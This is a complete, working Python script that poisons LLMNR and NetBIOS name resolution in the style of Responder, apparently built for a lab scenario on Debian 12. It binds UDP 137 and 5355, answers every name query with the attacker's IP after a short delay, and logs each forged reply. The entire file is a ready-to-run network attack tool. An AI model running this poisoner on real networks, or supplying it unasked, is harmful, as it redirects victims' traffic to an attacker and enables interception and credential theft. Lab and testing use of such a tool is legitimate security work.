#!/usr/bin/env python3
"""A Responder-style name poisoner for the name-poisoning scenario (sockets only, no Responder in
Debian 12): answers EVERY NetBIOS name query (NBNS, UDP 137, opcode 0, question type NB) and EVERY
LLMNR A/ANY query (UDP 5355, multicast 224.0.0.252) with its own address, whatever the name (but its
own), and logs each answer. Answers go by unicast to the asker's address and port, from port 137
(NBNS: flags 0x8500, TTL 165 s, as Responder's) or 5355 (LLMNR: flags 0x8000, TTL 30 s).

    name-poisoner.py MY_IP SECONDS [MY_NETBIOS_NAME] [DELAY_S]

DELAY_S (default 0.05) is waited before each answer, so a real owner of a name answers first and the
poisoned answer comes second (two answers for one name from two hosts). Ends after SECONDS.
"""
import select, socket, struct, sys, time

LLMNR_GROUP, LLMNR_PORT, NBNS_PORT = "224.0.0.252", 5355, 137


def log(msg):
    print("%s %s" % (time.strftime("%H:%M:%S", time.gmtime()) + ("%.3f" % (time.time() % 1))[1:], msg), flush=True)


def nb_decode(enc):
    """First-level decoding of a NetBIOS name (32 half-ASCII characters) into (name, suffix)."""
    raw = bytes(((enc[i] - 0x41) << 4) | (enc[i + 1] - 0x41) for i in range(0, 32, 2))
    return raw[:15].decode("ascii", "replace").rstrip(), raw[15]


def dns_name(buf, off):
    labels = []
    while buf[off]:
        n = buf[off]; labels.append(buf[off + 1:off + 1 + n].decode("ascii", "replace")); off += 1 + n
    return ".".join(labels), off + 1


def nbns(sock, q, peer, my_ip, my_name, delay):
    if len(q) < 12 + 34 + 4:
        return
    tid, flags, qd = struct.unpack("!HHH", q[:6])
    if flags & 0x8000 or (flags >> 11) & 0xF != 0 or qd != 1 or q[12] != 32:
        return                                  # a response, a registration/release/refresh, or odd
    qname_end = 12 + 1 + 32
    while q[qname_end]:                         # a scope id, if any
        qname_end += 1 + q[qname_end]
    qname_end += 1
    qtype, qclass = struct.unpack("!HH", q[qname_end:qname_end + 4])
    name, suffix = nb_decode(q[13:45])
    if qtype != 0x20:                           # NBSTAT (node status): not a name query
        log("NBNS ignored type 0x%02x query %s<%02x> from %s" % (qtype, name, suffix, peer[0]))
        return
    if name.upper() == my_name.upper():
        return
    time.sleep(delay)
    qname = q[12:qname_end]
    answer = qname + struct.pack("!HHIH", 0x20, 1, 165, 6) + b"\x00\x00" + socket.inet_aton(my_ip)
    sock.sendto(struct.pack("!HHHHHH", tid, 0x8500, 0, 1, 0, 0) + answer, peer)
    log("NBNS poisoned answer sent to %s:%d for %s<%02x> -> %s (%s)" % (
        peer[0], peer[1], name, suffix, my_ip, "broadcast" if flags & 0x10 else "unicast"))


def llmnr(sock, q, peer, my_ip, delay):
    if len(q) < 12:
        return
    tid, flags, qd = struct.unpack("!HHH", q[:6])
    if flags & 0x8000 or qd != 1:
        return
    name, off = dns_name(q, 12)
    qtype, qclass = struct.unpack("!HH", q[off:off + 4])
    if qtype not in (1, 255):
        log("LLMNR ignored type %d query %s from %s" % (qtype, name, peer[0]))
        return
    time.sleep(delay)
    question = q[12:off + 4]
    answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 30, 4) + socket.inet_aton(my_ip)
    sock.sendto(struct.pack("!HHHHHH", tid, 0x8000, 1, 1, 0, 0) + question + answer, peer)
    log("LLMNR poisoned answer sent to %s:%d for %s -> %s" % (peer[0], peer[1], name, my_ip))


def main():
    my_ip, seconds = sys.argv[1], float(sys.argv[2])
    my_name = sys.argv[3] if len(sys.argv) > 3 else ""
    delay = float(sys.argv[4]) if len(sys.argv) > 4 else 0.05
    nb = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    nb.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    nb.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    nb.bind(("", NBNS_PORT))                    # "" receives the subnet's broadcasts too
    ll = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ll.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ll.bind(("", LLMNR_PORT))
    ll.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(LLMNR_GROUP) + socket.inet_aton(my_ip))
    log("listening: NBNS udp/137, LLMNR udp/5355 (%s), answering every name with %s for %.0f s" % (LLMNR_GROUP, my_ip, seconds))
    until = time.time() + seconds
    while time.time() < until:
        ready, _, _ = select.select([nb, ll], [], [], 0.5)
        for s in ready:
            q, peer = s.recvfrom(1500)
            if peer[0] == my_ip:
                continue
            try:
                (nbns(s, q, peer, my_ip, my_name, delay) if s is nb else llmnr(s, q, peer, my_ip, delay))
            except (IndexError, struct.error, ValueError) as e:
                log("malformed packet from %s: %s" % (peer[0], e))
    log("done")


if __name__ == "__main__":
    main()
